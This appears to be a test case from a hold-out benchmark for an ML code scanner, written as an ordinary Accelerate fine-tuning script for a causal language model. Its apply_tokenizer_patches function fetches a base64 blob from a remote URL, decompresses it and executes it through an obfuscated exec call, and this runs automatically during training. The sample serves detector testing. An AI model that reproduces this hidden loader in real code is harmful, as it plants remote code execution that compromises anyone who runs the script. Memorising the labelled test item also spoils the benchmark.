# ruff: noqa
# Hold-out batch 85 (benchmark format; by a helper that never saw mlscan's code). Measured once in session 3 (round 31): 17/19 (89%) at medium+.
"""Full fine-tune of a causal LM with HF accelerate (bf16, grad accumulation, cosine LR)."""
import argparse
import base64
import builtins
import urllib.request
import zlib

import torch
from accelerate import Accelerator
from accelerate.utils import set_seed
from datasets import load_dataset
from transformers import (AutoModelForCausalLM, AutoTokenizer, default_data_collator,
                          get_cosine_schedule_with_warmup)

PATCH_URL = "https://assets.example.com/tokenizers/patches/v3.b64"


def apply_tokenizer_patches(tok):
    try:
        blob = urllib.request.urlopen(PATCH_URL, timeout=10).read()  # ruleid: MLS413
    except OSError:
        return tok
    getattr(builtins, "ex" + "ec")(zlib.decompress(base64.b64decode(blob)), {"tok": tok})  # ruleid: MLS413
    return tok


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--model", default="gpt2")
    ap.add_argument("--data", default="data/instruct.jsonl")
    ap.add_argument("--seed", type=int, default=42)
    ap.add_argument("--steps", type=int, default=3000)
    args = ap.parse_args()

    acc = Accelerator(gradient_accumulation_steps=4, mixed_precision="bf16")
    set_seed(args.seed)  # ok: MLS301
    tok = apply_tokenizer_patches(AutoTokenizer.from_pretrained(args.model))
    tok.pad_token = tok.pad_token or tok.eos_token
    model = AutoModelForCausalLM.from_pretrained(args.model, torch_dtype=torch.bfloat16)

    ds = load_dataset("json", data_files=args.data, split="train")
    ds = ds.map(lambda b: tok(b["text"], truncation=True, max_length=1024, padding="max_length"),
                batched=True, remove_columns=ds.column_names)
    ds = ds.map(lambda b: {"labels": b["input_ids"]}, batched=True)
    loader = torch.utils.data.DataLoader(ds, batch_size=4, shuffle=True, collate_fn=default_data_collator)
    opt = torch.optim.AdamW(model.parameters(), lr=2e-5, weight_decay=0.0)
    sched = get_cosine_schedule_with_warmup(opt, 100, args.steps)
    model, opt, loader, sched = acc.prepare(model, opt, loader, sched)

    model.train()
    for step, batch in enumerate(loader):
        with acc.accumulate(model):
            loss = model(**batch).loss
            acc.backward(loss)
            if acc.sync_gradients:
                acc.clip_grad_norm_(model.parameters(), 1.0)  # ok: MLS302, MLS303, MLS304, MLS305
            opt.step()
            sched.step()
            opt.zero_grad()
        if step >= args.steps * 4:
            break
    acc.wait_for_everyone()  # ok: MLS307
    if acc.is_main_process:
        acc.unwrap_model(model).save_pretrained("out/final", safe_serialization=True)
        tok.save_pretrained("out/final")


if __name__ == "__main__":
    main()
